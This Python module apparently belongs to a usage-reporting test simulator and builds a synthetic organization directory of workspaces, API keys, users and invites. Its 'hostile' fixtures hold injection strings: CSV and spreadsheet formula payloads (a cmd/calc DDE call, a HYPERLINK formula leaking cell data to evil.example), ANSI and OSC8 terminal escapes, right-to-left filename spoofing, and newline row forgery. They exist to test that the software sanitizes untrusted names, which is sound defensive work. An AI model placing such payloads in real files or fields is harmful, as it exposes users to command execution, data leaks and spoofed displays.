"""The simulated organization's directory: its workspaces, API keys, users, invites and workspace members.

Built deterministically from a ``SimulatedOrg``: every workspace and API key the usage report carries is here
(so every id in the lake can be named), plus a few the reports never show. The small org exercises what the
reference says to expect (section 5.3):

- an archived workspace whose keys are archived (listed only with ``include_archived=true`` and without a
  ``status`` filter), an expired key, an archived workspace with no usage at all;
- keys of the default workspace and an organization-scoped key, both with a null ``workspace_id``;
- both documented ``principal`` shapes, keys with and without ``scope``, a key with no ``created_by``;
- two keys with the same name (the report gives API actors by name, alerts disambiguate by id);
- workspace tags (labels in the lake).

The simulator does not stop an archived key's usage: archival only shows in the listings. Records are plain
JSON-able dicts in listing order; ``Simulator`` pages them by ``after_id``/``before_id``.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

from usage_lake import words
from usage_lake.simulator.ids import _hash, _make_id, render_time

__all__ = ["DEFAULT_WORKSPACE_NAME", "HOSTILE_KEYS", "HOSTILE_USERS", "HOSTILE_WORKSPACES", "Directory"]

DEFAULT_WORKSPACE_NAME = words.DEFAULT_WORKSPACE  # what the Console calls it
_TAG_USER, _TAG_EXTRA, _TAG_INVITE, _TAG_ORG = 11, 12, 13, 14
_CREATED = datetime(2025, 3, 1, 9, 0, tzinfo=UTC)
_ARCHIVED = datetime(2026, 11, 21, 9, 15, tzinfo=UTC)  # a recent archival: the lake still holds this workspace's usage

# small org: workspace index (1, 2) -> (name, archived?, tags)
_SMALL_WORKSPACES = {
    1: ("Production", False, {"cost_center": "R&D", "env": "prod"}),
    2: ("Research", True, {"cost_center": "Research"}),
}
# small org: key index -> (name, status, shape); shapes vary the documented field forms
_SMALL_KEYS = (
    ("prod-backend", "active", "principal_id"),
    ("batch-worker", "active", "principal_actor_no_scope"),
    ("research-notebooks", "archived", "no_created_by"),
    ("evals", "archived", "service_account_actor"),
    ("scripts", "expired", "default_workspace"),
    ("batch-worker", "active", "organization_scope"),  # same name as key 1, another scope
)
# the hostile-names organization (`SimulatedOrg.hostile()`): what anyone in an org can type into a name
_OSC8 = "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07"
HOSTILE_WORKSPACES = {
    1: ("\x1b[2J\x1b[31mProduction" + _OSC8, False, {"=cmd|' /C calc'!A0": "\x1b[2Jred", "env\nFAKE": "@SUM(1,1)"}),
    2: ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', True, {"cost_center": "invoice\u202egnp.exe"}),
}
HOSTILE_KEYS = (
    "invoice\u202egnp.exe",  # right-to-left override: reads as invoiceexe.png
    "batch-worker\nFAKE ROW                $0.00",  # a newline that would forge a table row
    "=cmd|' /C calc'!A0",  # a spreadsheet formula
    "nul\x00bel\x07ff\x0cnonchar\ufffe\uffffdel\x7fc1\x9b",  # C0, C1 and non-characters: the chart renderer aborts on these
    "+1-2@3\t\r",
    "k" * 1_000_000,  # a 1,000,000-character name
)
HOSTILE_USERS = (
    ("\x1b[2JAda \u202eAdmin", "ada@example.com", "admin"),
    ("=1+1", "-dev.one@example.com", "developer"),
    ("Dev\nTwo", "@dev.two@example.com", "developer"),
    ("Cody\x00Coder", "=cody\x07@example.com", "claude_code_user"),
    ("Bill \ufffePayer", "billing@example.com", "billing"),
)
_SMALL_USERS = (
    ("Ada Admin", "ada@example.com", "admin"),
    ("Dev One", "dev.one@example.com", "developer"),
    ("Dev Two", "dev.two@example.com", "developer"),
    ("Cody Coder", "cody@example.com", "claude_code_user"),
    ("Bill Payer", "billing@example.com", "billing"),
)


@dataclass
class Directory:
    """The lists the organization endpoints serve, in listing order, and the org itself."""

    organization: dict[str, Any]
    workspaces: list[dict[str, Any]] = field(default_factory=list)
    api_keys: list[dict[str, Any]] = field(default_factory=list)
    users: list[dict[str, Any]] = field(default_factory=list)
    invites: list[dict[str, Any]] = field(default_factory=list)
    members: dict[str, list[dict[str, Any]]] = field(default_factory=dict)  # workspace id -> its members

    @classmethod
    def of(cls, org: Any) -> Directory:
        seed = org.seed
        small = len(org.api_key_ids) <= len(_SMALL_KEYS) + 1
        hostile = small and getattr(org, "hostile_names", False)
        workspaces_named = HOSTILE_WORKSPACES if hostile else _SMALL_WORKSPACES
        directory = cls(organization={"id": _uuid(seed), "type": "organization", "name": f"Simulated Org (seed {seed})"})
        key_workspace = {s.api_key_id: s.workspace_id for s in org.streams if s.api_key_id is not None}
        # workspaces with usage, then one active and one archived that the reports never show
        for index, workspace_id in enumerate(org.workspace_ids):
            if workspace_id is None:
                continue
            generic = (f"Workspace {index:02d}", index % 7 == 3, {"team": f"team-{index % 4}"})
            name, is_archived, tags = workspaces_named.get(index, generic) if small else generic
            directory.workspaces.append(_workspace(workspace_id, name, index, is_archived, tags))
        staging = _make_id("wrkspc", seed, _TAG_EXTRA, 1)
        sandbox = _make_id("wrkspc", seed, _TAG_EXTRA, 2)
        directory.workspaces.append(_workspace(staging, "Staging", 90, False, {}))
        directory.workspaces.append(_workspace(sandbox, "Old Sandbox", 91, True, {"cost_center": "R&D"}, archived_at=_CREATED + timedelta(days=60)))
        archived = {w["id"] for w in directory.workspaces if w["archived_at"]}
        # users first: keys name them as creators and principals
        small_users = HOSTILE_USERS if hostile else _SMALL_USERS
        people = small_users if small else tuple((f"User {i:03d}", f"user{i:03d}@example.com", ("developer", "user", "claude_code_user")[i % 3])
                                                  for i in range(max(5, len(org.api_key_ids) // 20)))
        for index, (name, email, role) in enumerate(people):
            directory.users.append({"id": _make_id("user", seed, _TAG_USER, index), "type": "user", "email": email, "name": name,
                                    "role": role, "added_at": render_time(_CREATED + timedelta(days=index))})
        admin = directory.users[0]["id"]
        for index, key_id in enumerate(k for k in org.api_key_ids if k is not None):
            workspace_id = key_workspace.get(key_id)
            if small:
                name, status, shape = _SMALL_KEYS[index]
                name = HOSTILE_KEYS[index] if hostile else name
            else:
                name, shape = f"key-{index:04d}", ("principal_id", "principal_actor_no_scope")[index % 2]
                status = "archived" if workspace_id in archived else "active"
            creator = directory.users[index % len(directory.users)]["id"]
            directory.api_keys.append(_api_key(key_id, name, status, shape, workspace_id, creator, index))
        directory.api_keys.append(_api_key(_make_id("apikey", seed, _TAG_EXTRA, 1), "staging-smoke", "active", "principal_id", staging, admin, 90))
        directory.api_keys.append(_api_key(_make_id("apikey", seed, _TAG_EXTRA, 2), "legacy-import", "archived", "principal_id", sandbox, admin, 91))
        invited = _CREATED + timedelta(days=400)
        directory.invites += [
            {"id": _make_id("invite", seed, _TAG_INVITE, 1), "type": "invite", "email": "new.hire@example.com", "role": "developer",
             "status": "pending", "invited_at": render_time(invited), "expires_at": render_time(invited + timedelta(days=21))},
            {"id": _make_id("invite", seed, _TAG_INVITE, 2), "type": "invite", "email": "contractor@example.com", "role": "user",
             "status": "expired", "invited_at": render_time(_CREATED), "expires_at": render_time(_CREATED + timedelta(days=21))},
        ]
        roles = ("workspace_developer", "workspace_user", "workspace_admin", "workspace_billing")
        for w_index, workspace in enumerate(directory.workspaces):
            chosen = [u for u_index, u in enumerate(directory.users) if _hash(seed, _TAG_USER, w_index, u_index) % 3 != 0 or u["id"] == admin]
            directory.members[workspace["id"]] = [
                {"type": "workspace_member", "user_id": u["id"], "workspace_id": workspace["id"],
                 "workspace_role": "workspace_admin" if u["id"] == admin else roles[_hash(seed, w_index, u_index) % len(roles)]}
                for u_index, u in enumerate(chosen)
            ]
        return directory

    def key_names(self) -> dict[str, str]:
        """API key id -> name."""
        return {k["id"]: k["name"] for k in self.api_keys}

    def workspace_names(self) -> dict[str | None, str]:
        """Workspace id -> name, the default workspace (None) included."""
        return {None: DEFAULT_WORKSPACE_NAME, **{w["id"]: w["name"] for w in self.workspaces}}

    def active_members(self) -> list[dict[str, Any]]:
        """The members of every workspace that is not archived (what a client that skips archived ones reads)."""
        live = {w["id"] for w in self.workspaces if not w["archived_at"]}
        return [m for workspace_id, members in self.members.items() if workspace_id in live for m in members]


def _uuid(seed: int) -> str:
    h = f"{_hash(seed, _TAG_ORG, 1):016x}{_hash(seed, _TAG_ORG, 2):016x}"
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-8{h[17:20]}-{h[20:32]}"


def _workspace(workspace_id: str, name: str, index: int, archived: bool, tags: dict[str, str],
               archived_at: datetime | None = None) -> dict[str, Any]:
    created = _CREATED + timedelta(days=index)
    return {
        "id": workspace_id, "type": "workspace", "name": name,
        "created_at": render_time(created) if index % 2 else created.strftime("%Y-%m-%dT%H:%M:%S.427722Z"),
        "archived_at": render_time(archived_at or _ARCHIVED) if archived else None,
        "display_color": ("#6C5BB9", "#3E7C5A", "#B94E3D")[index % 3],
        "data_residency": {"workspace_geo": "us", "default_inference_geo": "global", "allowed_inference_geos": ["global", "us"]},
        "tags": tags,
    }


def _api_key(key_id: str, name: str, status: str, shape: str, workspace_id: str | None, creator: str, index: int) -> dict[str, Any]:
    created = _CREATED + timedelta(days=index, hours=3)
    key: dict[str, Any] = {
        "id": key_id, "type": "api_key", "name": name, "status": status,
        "created_at": created.strftime("%Y-%m-%dT%H:%M:%S.123456Z"),
        "created_by": {"id": creator, "type": "user"},
        "expires_at": render_time(created + timedelta(days=90)) if status == "expired" else None,
        "partial_key_hint": f"sk-ant-api03-{key_id[10:13]}...{key_id[-4:]}",
        "principal": {"id": creator, "type": "user"},
        "workspace_id": workspace_id,
        "scope": {"type": "workspace", "workspace_id": workspace_id},
    }
    if shape == "principal_actor_no_scope":  # the Admin guide's principal, and an older key with no scope
        key["principal"] = {"type": "user_actor", "user_id": creator}
        del key["scope"]
    elif shape == "service_account_actor":
        key["principal"] = {"type": "service_account_actor", "service_account_id": f"svcacct_{key_id[7:]}"}
        key["workspace_id"] = None  # the deprecated field left out: the workspace is only in scope
    elif shape == "no_created_by":
        key["created_by"] = None
    elif shape == "default_workspace":
        key["scope"] = None
    elif shape == "organization_scope":
        key["scope"] = {"type": "organization"}
    return key
